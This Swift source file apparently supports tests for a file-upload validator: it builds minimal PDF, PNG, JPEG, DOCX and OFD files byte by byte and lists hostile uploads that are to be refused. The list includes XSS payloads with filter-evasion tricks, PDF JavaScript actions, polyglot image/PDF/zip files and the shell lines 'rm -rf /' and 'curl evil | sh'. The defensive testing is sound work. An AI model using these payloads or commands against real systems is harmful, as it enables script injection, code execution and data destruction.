import Foundation

/// Small documents of every accepted type, built byte by byte (no fixtures, no encoder), and the
/// hostile files an attacker sends in their place.
enum SampleDocuments {
    // MARK: accepted

    /// A one-page PDF with its cross-reference table and trailer.
    static func pdf(_ note: String = "郑州") -> Data {
        let objects = [
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        ]
        let stream = "BT /F1 12 Tf 20 100 Td (\(note.unicodeScalars.filter(\.isASCII).map(String.init).joined())) Tj ET"
        var out = Data("%PDF-1.4\n%\u{E2}\u{E3}\n".utf8)
        var offsets: [Int] = []
        for (i, object) in (objects + ["<< /Length \(stream.utf8.count) >>\nstream\n\(stream)\nendstream"]).enumerated() {
            offsets.append(out.count)
            out.append(Data("\(i + 1) 0 obj\n\(object)\nendobj\n".utf8))
        }
        let xref = out.count
        out.append(Data("xref\n0 \(offsets.count + 1)\n0000000000 65535 f \n".utf8))
        for offset in offsets { out.append(Data(String(format: "%010d 00000 n \n", offset).utf8)) }
        out.append(Data("trailer\n<< /Size \(offsets.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n".utf8))
        return out
    }

    /// A 1×1 RGB PNG: signature, IHDR, IDAT (zlib, stored block), IEND, each chunk with its CRC.
    static func png() -> Data {
        var out = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
        out.append(chunk("IHDR", be32(1) + be32(1) + [8, 2, 0, 0, 0]))
        let scanline: [UInt8] = [0, 0xC8, 0x10, 0x10]  // filter 0, one red pixel
        var zlib: [UInt8] = [0x78, 0x01, 0x01, UInt8(scanline.count), 0, ~UInt8(scanline.count), 0xFF]
        zlib += scanline + be32(adler32(scanline))
        out.append(chunk("IDAT", zlib))
        out.append(chunk("IEND", []))
        return out
    }

    /// An 8×8 grey baseline JPEG: JFIF, one quantisation table, two one-code Huffman tables and a
    /// scan of one block (DC difference 0, end of block).
    static func jpeg() -> Data {
        var b: [UInt8] = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + Array("JFIF".utf8) + [0, 1, 1, 0, 0, 1, 0, 1, 0, 0]
        b += [0xFF, 0xDB, 0x00, 0x43, 0x00] + [UInt8](repeating: 1, count: 64)
        b += [0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00]
        for table: UInt8 in [0x00, 0x10] { b += [0xFF, 0xC4, 0x00, 0x14, table, 1] + [UInt8](repeating: 0, count: 15) + [0] }
        b += [0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00, 0x3F, 0xFF, 0xD9]
        return Data(b)
    }

    /// A Word document: [Content_Types].xml, the package relationships and word/document.xml.
    static func docx(extra: [(String, String)] = []) -> Data {
        zip(
            [
                (
                    "[Content_Types].xml",
                    #"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#
                ),
                (
                    "_rels/.rels",
                    #"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#
                ),
                (
                    "word/document.xml",
                    #"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>郑州市政务信息化项目</w:t></w:r></w:p></w:body></w:document>"#
                ),
            ]
                + extra)
    }

    /// An OFD (GB/T 33190) package: OFD.xml and one document.
    static func ofd() -> Data {
        zip([
            (
                "OFD.xml",
                #"<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#
            ),
            ("Doc_0/Document.xml", #"<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>"#),
        ])
    }

    static let chineseText = Data(String(repeating: "郑州市政务信息化项目建设管理暂行办法。第一条 为规范政务信息化项目建设管理,", count: 300).utf8)

    // MARK: hostile

    /// Each refused with 415: what the old sniffer (first 8 bytes, first 4 KiB of text) let through.
    static var hostile: [(label: String, bytes: Data)] {
        [
            ("svg onload", Data("<svg onload=alert(document.cookie)>".utf8)),
            ("body onload", Data("<body onload=alert(1)>".utf8)),
            ("img onerror in text", Data("会议纪要 <img src=x onerror=alert(1)> 完".utf8)),
            ("onerror after a quoted <", Data(#"<img alt="<" src=x onerror=alert(document.domain)>"#.utf8)),
            ("onerror after 5,000 spaces", Data(("<img src=x" + String(repeating: " ", count: 5_000) + "onerror=alert(1)>").utf8)),
            ("onerror right after a quoted value", Data(#"<img src="x"onerror=alert(1)>"#.utf8)),
            ("onerror after a slash", Data("<img/onerror = alert(1)>".utf8)),
            // What read as a quoted value a browser may read as text, and the tag inside it as a tag.
            ("a tag inside what reads as a value", Data(#"< x a="<img src=x onerror=alert(1)>""#.utf8)),
            ("a tag after a comment", Data(#"<!-- <x a=" --><img src=x onerror=alert(1)>""#.utf8)),
            ("a tag inside a title", Data(#"<title><x a="</title><img src=x onerror=alert(1)>""#.utf8)),
            (
                "a long tag inside what reads as a value",
                Data(("< x a=\"<img src=x" + String(repeating: " ", count: 5_000) + "onerror=alert(1)>\"").utf8)
            ),
            ("markup after 4 KiB", Data((String(repeating: "郑州市政务信息化项目。", count: 400) + "<script>alert(1)</script>").utf8)),
            ("iframe late", Data((String(repeating: "a", count: 10_000) + "<IFRAME src=//evil>").utf8)),
            ("shell script", Data("#!/bin/sh\nrm -rf /\n".utf8)),
            ("shell script after BOM", Data("\u{FEFF}#!/bin/sh\nrm -rf /\n".utf8)),
            ("shell script after spaces", Data("\n  #!/usr/bin/env bash\ncurl evil | sh\n".utf8)),
            ("PDF then HTML", Data("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n".utf8)),
            ("PDF without end", Data("%PDF-1.4 nothing else".utf8)),
            (
                "PDF with JavaScript",
                Data(
                    String(decoding: pdf(), as: UTF8.self)
                        .replacingOccurrences(
                            of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
                        ).utf8)
            ),
            (
                "PDF with escaped JavaScript name",
                Data(
                    String(decoding: pdf(), as: UTF8.self)
                        .replacingOccurrences(of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /Java#53cript /J#53 (x) >>")
                        .utf8)
            ),
            ("PDF then zip", pdf() + zip([("a.html", "<script>alert(1)</script>")])),
            ("PNG then HTML", png() + Data("<html><script>alert(1)</script></html>".utf8)),
            ("PNG then zip", png() + zip([("a.html", "<script>alert(1)</script>")])),
            ("PNG with markup chunk", pngWithText("<svg onload=alert(1)>")),
            ("JPEG then HTML", jpeg() + Data("<script>alert(1)</script>".utf8)),
            ("JPEG with markup comment", jpegWithComment("<script>alert(1)</script>")),
            ("HTML then zip", Data("<html><script>alert(1)</script></html>".utf8) + docx()),
            ("zip then HTML", docx() + Data("<html><script>alert(1)</script></html>".utf8)),
            ("plain zip", zip([("a.txt", "hello")])),
            ("Word with macros", docx(extra: [("word/vbaProject.bin", "macro")])),
            ("Word with a page inside", docx(extra: [("word/evil.html", "<script>alert(1)</script>")])),
            ("HTML", Data("<!DOCTYPE html><p>x".utf8)),
            ("XML", Data(#"<?xml version="1.0"?><a>x</a>"#.utf8)),
            ("ELF", Data([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0]) + Data(count: 64)),
            ("PE", Data("MZ\u{90}\0".utf8) + Data(count: 64)),
            ("NUL in text", Data("abc\0def".utf8)),
            ("bad UTF-8", Data([0x41, 0xC3, 0x28])),
        ]
    }

    static func pngWithText(_ text: String) -> Data {
        let base = png()
        let iend = base.count - 12
        return base.prefix(iend) + chunk("tEXt", Array("Comment".utf8) + [0] + Array(text.utf8)) + base.suffix(12)
    }

    static func jpegWithComment(_ text: String) -> Data {
        var b = jpeg()
        let comment: [UInt8] = [0xFF, 0xFE] + be16(UInt16(text.utf8.count + 2)) + Array(text.utf8)
        b.insert(contentsOf: comment, at: 2)
        return b
    }

    // MARK: building blocks

    /// A zip of stored entries, as a zip writer makes it (local headers, central directory, end record).
    static func zip(_ entries: [(String, String)]) -> Data {
        var local = Data(), central = Data()
        for (name, text) in entries {
            let body = Array(text.utf8), nameBytes = Array(name.utf8)
            let crc = crc32(body)
            let offset = UInt32(local.count)
            local.append(
                contentsOf: le32(0x0403_4B50) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
                    + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count)) + le16(0))
            local.append(contentsOf: nameBytes + body)
            central.append(
                contentsOf: le32(0x0201_4B50) + le16(20) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
                    + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count))
                    + le16(0) + le16(0) + le16(0) + le16(0) + le32(0) + le32(offset))
            central.append(contentsOf: nameBytes)
        }
        var out = local + central
        out.append(
            contentsOf: le32(0x0605_4B50) + le16(0) + le16(0) + le16(UInt16(entries.count)) + le16(UInt16(entries.count))
                + le32(UInt32(central.count)) + le32(UInt32(local.count)) + le16(0))
        return out
    }

    static func chunk(_ type: String, _ data: [UInt8]) -> Data {
        let body = Array(type.utf8) + data
        return Data(be32(UInt32(data.count)) + body + be32(crc32(body)))
    }

    static func be32(_ v: UInt32) -> [UInt8] { [UInt8(v >> 24), UInt8((v >> 16) & 0xFF), UInt8((v >> 8) & 0xFF), UInt8(v & 0xFF)] }
    static func be16(_ v: UInt16) -> [UInt8] { [UInt8(v >> 8), UInt8(v & 0xFF)] }
    static func le32(_ v: UInt32) -> [UInt8] { be32(v).reversed() }
    static func le16(_ v: UInt16) -> [UInt8] { be16(v).reversed() }

    static func crc32(_ bytes: [UInt8]) -> UInt32 {
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in bytes {
            crc ^= UInt32(byte)
            for _ in 0..<8 { crc = (crc >> 1) ^ (0xEDB8_8320 & (0 &- (crc & 1))) }
        }
        return ~crc
    }

    static func adler32(_ bytes: [UInt8]) -> UInt32 {
        var a: UInt32 = 1, b: UInt32 = 0
        for byte in bytes { a = (a + UInt32(byte)) % 65_521; b = (b + a) % 65_521 }
        return b << 16 | a
    }
}
